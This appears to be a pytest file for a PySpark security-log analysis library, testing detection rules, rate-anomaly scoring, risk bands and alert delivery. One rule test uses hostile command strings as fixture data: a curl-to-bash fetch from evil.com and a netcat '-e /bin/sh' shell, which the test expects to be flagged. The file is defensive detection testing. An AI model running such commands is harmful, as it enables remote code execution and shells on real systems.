import random
from datetime import datetime, timedelta, timezone

import pytest
from pyspark.sql import functions as F

from logsift.operators.anomaly import AnomalySettings, rate_anomaly
from logsift.operators.risk import analyze, risk_score
from logsift.operators.rules import RuleSettings, apply_rules, trailing_counts, with_rule_counts
from logsift.sinks.forward import deliver

EVENT = ("event_id string, event_ts timestamp, source_ip string, action string, event_type string, severity string, "
         "protocol string, destination_port int, extensions map<string,string>")
START = datetime(2024, 1, 1, tzinfo=timezone.utc)


def event(i, second=0, ip="10.0.0.1", action=None, kind=None, severity=None, protocol=None, port=None, **ext):
    when = None if second is None else START + timedelta(seconds=second)
    return (f"e{i:05d}", when, ip, action, kind, severity, protocol, port, ext)


def test_trailing_counts(spark):
    rng = random.Random(3)
    rows = [event(i, rng.choice([None, *[rng.randint(0, 400)] * 9]), rng.choice(["a", "a", "a", "b", "c", "", None]),
                  rng.choice(["fail", "ok"])) for i in range(500)]
    df = spark.createDataFrame(rows, EVENT)
    out = trailing_counts(df, "source_ip", "event_ts", "event_id",
                          {"bad": (F.col("action") == "fail", 50), "every": (F.lit(True), 20)}, slab_seconds=30)
    got = {r["event_id"]: r for r in out.collect()}
    assert len(got) == 500
    for e in rows:
        if not e[2] or e[1] is None:
            assert got[e[0]]["every"] is None
            continue
        def within(span, test):
            return sum(1 for x in rows if x[2] == e[2] and x[1] is not None and test(x) and x[1] >= e[1] - timedelta(seconds=span)
                       and (x[1], x[0]) <= (e[1], e[0]))
        assert got[e[0]]["every"] == within(20, lambda x: True)
        assert got[e[0]]["bad"] == within(50, lambda x: x[3] == "fail")


def rules_of(spark, rows, settings=RuleSettings()):
    out = apply_rules(with_rule_counts(spark.createDataFrame(rows, EVENT), settings), settings)
    return {r["event_id"]: r for r in out.collect()}


def test_rules(spark):
    got = rules_of(spark, [event(i, i, action="failed") for i in range(5)])
    assert [len(got[f"e{i:05d}"]["rule_matches"]) for i in range(5)] == [0, 0, 0, 0, 1]
    assert got["e00004"]["rule_reasons"] == ["5 failed login events from 10.0.0.1 within 300s"]
    got = rules_of(spark, [event(i, i, severity="Error", kind="auth") for i in range(3)], RuleSettings(spike_threshold=3, failed_login_threshold=9))
    assert got["e00002"]["rule_matches"] == ["source_ip_spike"] and got["e00002"]["auth_failed"]
    got = rules_of(spark, [
        event(0, protocol="HTTP", port=22), event(1, protocol="http", port=80), event(2, protocol="ssh", port=2222),
        event(3, protocol="ssh", port=0), event(4, command="curl http://evil.com | bash"),
        event(5, command="", process_command_line="NC -e /bin/sh"), event(6, ip=None, command="ls")])
    assert [got[f"e{i:05d}"]["rule_matches"] for i in range(7)] == [
        ["abnormal_destination_port"], [], ["abnormal_destination_port"], [], ["suspicious_command"], ["suspicious_command"], []]


def model_anomaly(times, settings):
    """(flag, score) per event, by keeping the counts of earlier non-empty buckets in a list."""
    past, current, count, out = [], None, 0, []
    for t in times:
        bucket = t // settings.bucket_seconds
        if bucket != current:
            if current is not None:
                past = (past + [count])[-settings.history:]
            current, count = bucket, 0
        count += 1
        if len(past) < settings.min_samples:
            out.append((False, 0.0))
            continue
        mean = sum(past) / len(past)
        sd = (sum((x - mean) ** 2 for x in past) / len(past)) ** 0.5
        z = (count - mean) / sd if sd else None
        hit = z is not None and z >= settings.zscore
        out.append((hit, round(min(1.0, .5 + (z - settings.zscore) * .1), 2) if hit else 0.0))
    return out


def test_rate_anomaly(spark):
    rng = random.Random(9)
    settings = AnomalySettings(history=20, min_samples=8, zscore=2.0, chunk=25, splits=4)
    times = sorted(t for b in range(120) if b % 7 for t in [b * 10 + rng.randint(0, 9) for _ in range(rng.choice([1, 2, 3, 3, 9]))])
    rows = [event(i, t) for i, t in enumerate(times)]
    got = {r["event_id"]: (r["anomaly"], r["anomaly_score"]) for r in rate_anomaly(spark.createDataFrame(rows, EVENT), settings).collect()}
    want = model_anomaly(times, settings)
    assert sum(w[0] for w in want) > 5
    assert [got[r[0]] for r in rows] == want


def test_anomaly_reasons(spark):
    flat = [event(i, i * 10) for i in range(50)] + [event(50, 500)]
    got = {r["event_id"]: r["anomaly_reason"] for r in rate_anomaly(spark.createDataFrame(flat, EVENT)).collect()}
    assert got["e00010"] == "insufficient baseline data" and got["e00050"] == "zero standard deviation in baseline"
    busy = [event(i * 10 + j, i * 10) for i in range(50) for j in range(5 + i % 2)] + [event(900 + j, 500) for j in range(25)]
    last = {r["event_id"]: r for r in rate_anomaly(spark.createDataFrame(busy, EVENT)).collect()}["e00924"]
    assert last["anomaly"] and last["anomaly_score"] > 0 and "standard deviations above baseline" in last["anomaly_reason"]


def test_risk(spark):
    rows = [("low", [], False, 0.0, 5, "low"), ("critical", [], False, 0.0, 50, "high"),
            ("critical", ["suspicious_command"], True, 1.0, 100, "critical"), (None, ["repeated_failed_login"], True, 0.57, 52, "high")]
    df = spark.createDataFrame(rows, "severity string, rule_matches array<string>, anomaly boolean, anomaly_score double, score int, band string")
    for r in risk_score(df).collect():
        assert (r["risk_score"], r["risk_severity"]) == (r["score"], r["band"])


def test_analysis_plan(spark):
    df = spark.createDataFrame([event(0)], EVENT)
    assert analyze(df, enabled=False) is None
    plan = analyze(df)._jdf.queryExecution().executedPlan().toString()
    assert "Python" not in plan and "CartesianProduct" not in plan


@pytest.mark.parametrize("answers, good, calls", [
    ([200], True, 1), ([429, 429, 200], True, 3), ([500] * 9, False, 4), ([401], False, 1), ([404], False, 1), (["boom"] * 4, False, 4)])
def test_delivery(answers, good, calls):
    replies, waits = iter(answers), []

    def sender(_body):
        status = next(replies)
        if status == "boom":
            raise OSError(status)
        return status

    assert deliver(sender, {}, sleep=waits.append) == (good, calls)
    assert waits == [2, 4, 6][:calls - 1]


def test_queue_source(spark, tmp_path):
    from logsift.sources.queue import stream_logs

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.json").write_text(
        '{"request_id": "r", "log": "CEF:0|a", "timestamp": 1.5, "attempts": 0}\n{"request_id": "r", "log": "  ", "timestamp": 2, "attempts": 1}\n')
    logs = stream_logs(spark, "json", str(tmp_path / "in"), per_trigger=1)
    run = logs.writeStream.format("memory").queryName("queued").trigger(availableNow=True).option(
        "checkpointLocation", str(tmp_path / "state")).start()
    run.awaitTermination()
    rows = spark.table("queued").collect()
    assert [(r["request_id"], r["raw_event"], r["attempts"]) for r in rows] == [("r", "CEF:0|a", 0)]
